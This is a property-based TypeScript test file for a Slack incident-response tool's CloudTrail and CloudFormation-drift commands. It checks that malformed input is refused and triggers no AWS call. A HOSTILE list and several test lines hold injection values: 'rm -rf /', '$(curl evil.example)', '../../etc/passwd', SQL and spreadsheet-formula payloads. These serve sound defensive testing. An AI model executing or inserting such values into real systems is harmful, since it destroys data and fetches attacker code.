/**
 * Bad input to `trail` and `drift` — near-miss key and VPC ids, two lookup attributes, hostile strings,
 * 10 kB arguments, `prod; rm -rf /` — gets a clear ephemeral message and changes nothing: no run, no AWS
 * call (neither quell's audited calls nor a request reaching the CloudTrail or CloudFormation fakes), no
 * message in the channel. Property-based with fast-check, at the schema and through the signed-request
 * Slack surface.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InputInvalidError } from '../../src/errors.ts';
import { parseRunbookInput } from '../../src/runbooks/define-runbook.ts';
import { type DriftTarget, drift, STACK_NAME, VPC_ID } from '../../src/runbooks/drift.ts';
import { parseCommandText } from '../../src/runbooks/engine/command-grammar.ts';
import { MAX_LIMIT, trail } from '../../src/runbooks/trail.ts';
import { accountConfig, randomAccountId } from '../support/aws-fixtures.ts';
import { type FakeCloudFormation, startFakeCloudFormation } from '../support/fake-cloudformation.ts';
import { type FakeCloudTrail, startFakeCloudTrail } from '../support/fake-cloudtrail.ts';
import { INCIDENT, startTestQuell, type TestQuell } from '../support/test-quell.ts';

const HOSTILE = [
  'prod; rm -rf /',
  '$(curl evil.example)',
  '`id`',
  '<!channel>',
  '<@U0LEAD1>',
  '<https://evil.example|click>',
  '../../etc/passwd',
  "' OR 1=1 --",
  '=HYPERLINK("http://evil.example")',
  'a\u202eb',
  '\u0000',
  '',
];

const KEY = /^(AKIA|ASIA)[A-Z2-7]{16}$/;

/** Values that look almost like a valid id of each kind, and are not. */
const nearMissKey = fc.oneof(
  fc.stringMatching(/^AKIA[A-Z2-7]{15}$/),
  fc.stringMatching(/^AKIA[A-Z2-7]{17}$/),
  fc.stringMatching(/^AKIA[A-Z2-7]{15}[0189]$/),
  fc.stringMatching(/^akia[a-z2-7]{16}$/),
  fc.stringMatching(/^AIDA[A-Z2-7]{16}$/),
);
const nearMissVpc = fc.oneof(
  fc.stringMatching(/^vpc-[0-9a-f]{1,7}$/),
  fc.stringMatching(/^vpc-[0-9a-f]{9,16}$/),
  fc.stringMatching(/^vpc-[0-9a-f]{18,24}$/),
  fc.stringMatching(/^vpc-[g-z]{8}$/),
  fc.stringMatching(/^vpc-[0-9A-F]{17}$/).filter((s) => /[A-F]/.test(s)),
  fc.constantFrom('vpc-xyz', 'vpc-', 'vpc-0abc123', 'vpc-0abc1234x'),
);

describe('trail and drift input', () => {
  let t: TestQuell;
  let ct: FakeCloudTrail;
  let cfn: FakeCloudFormation;

  beforeAll(async () => {
    ct = await startFakeCloudTrail();
    cfn = await startFakeCloudFormation();
    process.env.AWS_ENDPOINT_URL_CLOUDTRAIL = ct.url;
    process.env.AWS_ENDPOINT_URL_CLOUDFORMATION = cfn.url;
    t = await startTestQuell({ accounts: [accountConfig('prod', randomAccountId())] });
  });
  afterAll(async () => {
    await t?.close();
    await ct?.close();
    await cfn?.close();
  });

  async function assertNothingHappened() {
    await t.settle();
    expect(await t.quell.store.listRuns({ limit: 5 })).toHaveLength(0);
    const audit = await t.quell.store.listAudit();
    expect(audit.filter((e) => e.type.startsWith('aws.'))).toHaveLength(0);
    expect(audit.filter((e) => e.type === 'command.received')).toHaveLength(0);
    expect(t.slack.callsOf('chat.postMessage').filter((c) => c.body.channel === INCIDENT)).toHaveLength(0);
    expect(['us-east-1', 'eu-west-1'].map((r) => ct.counters(r).requests)).toEqual([0, 0]);
    expect(cfn.requests).toHaveLength(0);
  }

  async function expectRefused(text: string, mentions?: string) {
    const res = await t.command(text, 'U0FUZZ');
    expect(res.status, text.slice(0, 60)).toBe(200);
    expect(res.json?.response_type).toBe('ephemeral');
    const reply = String(res.json?.text);
    expect(reply, text.slice(0, 80)).toMatch(/That did not run|not a runbook|:warning:/);
    expect(reply).not.toMatch(/<!channel>|<@U0LEAD1>|<https?:/);
    if (mentions) expect(reply, text.slice(0, 80)).toContain(mentions);
  }

  it('answers known bad commands with what was wrong and the right form, and changes nothing', async () => {
    await expectRefused('trail', 'give one lookup attribute');
    await expectRefused(
      'trail key=AKIAIOSFODNN7EXAMPLE user=alice',
      'CloudTrail looks events up by one attribute per call',
    );
    await expectRefused('trail key=AKIA123', 'an access key id is AKIA or ASIA');
    await expectRefused('trail key=AKIAIOSFODNN7EXAMPLE since=91d', 'CloudTrail keeps 90 days');
    await expectRefused('trail key=AKIAIOSFODNN7EXAMPLE until=2026-02-30T10:00Z', 'ISO time');
    await expectRefused('trail key=AKIAIOSFODNN7EXAMPLE limit=99999', `at most ${MAX_LIMIT} events`);
    await expectRefused('trail key=AKIAIOSFODNN7EXAMPLE region="us-east-1;ls"', '`region=`');
    await expectRefused('trail key=AKIAIOSFODNN7EXAMPLE account="prod; rm -rf /"', '`account=`');
    await expectRefused('trail key=AKIAIOSFODNN7EXAMPLE account=staging', 'unknown account `staging`');
    await expectRefused('trail user="alice; rm -rf /"', '`user=`');
    await expectRefused('trail event="$(curl evil.example)"', '`event=`');
    await expectRefused('trail resource="<!channel>"', '`resource=`');
    await expectRefused('trail source=evil.example.com', '`source=`');
    await expectRefused('trail AKIAIOSFODNN7EXAMPLE', 'no positional argument');
    await expectRefused(`trail user="${'x'.repeat(10_000)}"`, 'the limit is 1000');
    await expectRefused('drift', 'give one stack name');
    await expectRefused('drift vpc-xyz', 'vpc- and 8 or 17 lower-case hex digits');
    await expectRefused('drift 10.0.0.0/33', 'a stack name starts with a letter');
    await expectRefused('drift "prod; rm -rf /"', 'a stack name starts with a letter');
    await expectRefused('drift web api', 'give one stack name');
    await expectRefused('drift web region="eu-west-1;ls"', '`region=`');
    await expectRefused(`drift ${'a'.repeat(129)}`, 'at most 128');
    await expectRefused('drift web force=true', 'unknown option `force=`');
    await assertNothingHappened();
  });

  it('property: near-miss ids and hostile values sent from Slack are refused and call nothing', async () => {
    let attempts = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          nearMissKey.map((k) => `trail key=${k}`),
          nearMissVpc.map((v) => `drift ${v}`),
          fc.constantFrom(...HOSTILE).map((h) => `trail user="${h.replace(/"/g, '')}"`),
          fc.constantFrom(...HOSTILE).map((h) => `drift "${h.replace(/"/g, '')}"`),
          fc
            .constantFrom(...HOSTILE)
            .map((h) => `trail key=AKIAIOSFODNN7EXAMPLE since="${h.replace(/"/g, '')}"`),
        ),
        async (text) => {
          attempts++;
          await expectRefused(text);
        },
      ),
      { numRuns: 60 },
    );
    expect(attempts).toBe(60);
    await assertNothingHappened();
  });

  it('property: trail accepts only well-formed values of exactly one attribute, and otherwise fails with InputInvalidError', () => {
    const option = fc.constantFrom(
      'key',
      'user',
      'event',
      'resource',
      'source',
      'since',
      'until',
      'region',
      'limit',
      'account',
    );
    const value = fc.oneof(
      fc.string({ maxLength: 60 }),
      fc.constantFrom(...HOSTILE),
      nearMissKey,
      fc.constantFrom(
        'AKIAIOSFODNN7EXAMPLE',
        'alice',
        'ConsoleLogin',
        'iam.amazonaws.com',
        '24h',
        '7d',
        '90d',
        '2026-11-23T10:00Z',
        'us-east-1,eu-west-1',
        '500',
      ),
      fc.string({ minLength: 2_000, maxLength: 10_000 }),
    );
    let accepted = 0;
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.tuple(option, value), { maxLength: 4, selector: ([k]) => k }),
        (pairs) => {
          const args = { positional: [], options: Object.fromEntries(pairs) };
          try {
            const input = parseRunbookInput<{
              attribute: { key: string; value: string };
              limit: number;
              regions: string[] | null;
              account?: string;
            }>(trail, args);
            accepted++;
            const given = pairs.filter(([k]) => ['key', 'user', 'event', 'resource', 'source'].includes(k));
            expect(given).toHaveLength(1);
            expect(input.attribute.value).toBe(given[0]?.[1]);
            expect(input.attribute.value).toMatch(/^[\w+=,.@:/*-]{1,512}$/);
            if (input.attribute.key === 'AccessKeyId') expect(input.attribute.value).toMatch(KEY);
            expect(input.limit).toBeGreaterThanOrEqual(1);
            expect(input.limit).toBeLessThanOrEqual(MAX_LIMIT);
            for (const r of input.regions ?? []) expect(r).toMatch(/^[a-z]{2}(-gov|-iso[a-z]?)?-[a-z]+-\d$/);
          } catch (error) {
            expect(error).toBeInstanceOf(InputInvalidError);
            expect((error as InputInvalidError).usage).toContain('trail key=');
          }
        },
      ),
      { numRuns: 3_000 },
    );
    expect(accepted).toBeGreaterThan(0); // the generator does reach valid inputs
  });

  it('property: drift accepts only a stack name, `all` or a VPC id, and otherwise fails with InputInvalidError', () => {
    const target = fc.oneof(
      fc.string({ maxLength: 140 }),
      fc.constantFrom(...HOSTILE),
      nearMissVpc,
      fc.stringMatching(/^vpc-([0-9a-f]{8}|[0-9a-f]{17})$/),
      fc.stringMatching(/^[A-Za-z][A-Za-z0-9-]{0,130}$/),
      fc.constant('all'),
      fc.string({ minLength: 10_000, maxLength: 10_000 }),
    );
    let accepted = 0;
    fc.assert(
      fc.property(fc.array(target, { maxLength: 3 }), (positional) => {
        try {
          const input = parseRunbookInput<{ target: DriftTarget; account?: string }>(drift, {
            positional,
            options: {},
          });
          accepted++;
          expect(positional).toHaveLength(1);
          const t = input.target;
          if (t.kind === 'vpc') expect(t.vpcId).toMatch(VPC_ID);
          else if (t.kind === 'stack') {
            expect(t.name).toMatch(STACK_NAME);
            expect(t.name.startsWith('vpc-')).toBe(false);
          } else expect(positional[0]).toBe('all');
        } catch (error) {
          expect(error).toBeInstanceOf(InputInvalidError);
          expect((error as InputInvalidError).usage).toContain('drift <stack-name>');
        }
      }),
      { numRuns: 3_000 },
    );
    expect(accepted).toBeGreaterThan(0);
  });

  // Last: these pass the ack (the region's shape is fine) and are refused once the account is known.
  it('refuses a region the account does not have, after the ack, still without any AWS call', async () => {
    for (const [text, user] of [
      ['drift web region=ap-south-1', 'U0REGION1'],
      ['trail key=AKIAIOSFODNN7EXAMPLE region=us-east-1,ap-southeast-2', 'U0REGION2'],
      ['trail key=AKIAIOSFODNN7EXAMPLE since=2020-01-01', 'U0REGION3'],
    ] as const) {
      const ack = await t.command(text, user);
      expect(String(ack.json?.text)).toContain('Planning');
    }
    await t.settle();
    const told = (user: string) =>
      t.slack.responses.filter((r) => r.method === `/response/${user}`).map((r) => String(r.body.text));
    expect(told('U0REGION1').join()).toContain('region `ap-south-1` is not configured for account `prod`');
    expect(told('U0REGION2').join()).toContain('region `ap-southeast-2` not configured for account `prod`');
    expect(told('U0REGION3').join()).toMatch(/`since=` is \d+ days back; CloudTrail keeps 90 days of events/);
    const audit = await t.quell.store.listAudit();
    expect(audit.filter((e) => e.type.startsWith('aws.'))).toHaveLength(0);
    expect(ct.counters('us-east-1').requests + cfn.requests.length).toBe(0);
    expect(t.slack.callsOf('chat.postMessage').filter((c) => c.body.channel === INCIDENT)).toHaveLength(0);
  });

  it('the grammar and schemas never throw anything but InputInvalidError on arbitrary command text', () => {
    fc.assert(
      fc.property(fc.constantFrom('trail', 'drift'), fc.string({ maxLength: 300 }), (name, text) => {
        try {
          const parsed = parseCommandText(`${name} ${text}`);
          parseRunbookInput(name === 'trail' ? trail : drift, parsed.args);
        } catch (error) {
          expect(error).toBeInstanceOf(InputInvalidError);
        }
      }),
      { numRuns: 3_000 },
    );
  });
});
